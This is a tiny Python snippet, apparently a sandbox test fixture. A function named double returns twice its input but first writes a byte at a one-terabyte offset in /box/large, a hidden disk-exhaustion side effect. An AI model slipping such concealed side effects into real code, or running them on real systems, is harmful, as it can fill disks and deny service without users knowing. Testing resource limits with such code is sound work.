def double(n):
    with open("/box/large", "wb") as file:
        file.seek(10**12)
        file.write(b"0")
        file.flush()
    return 2 * n


doubles = double
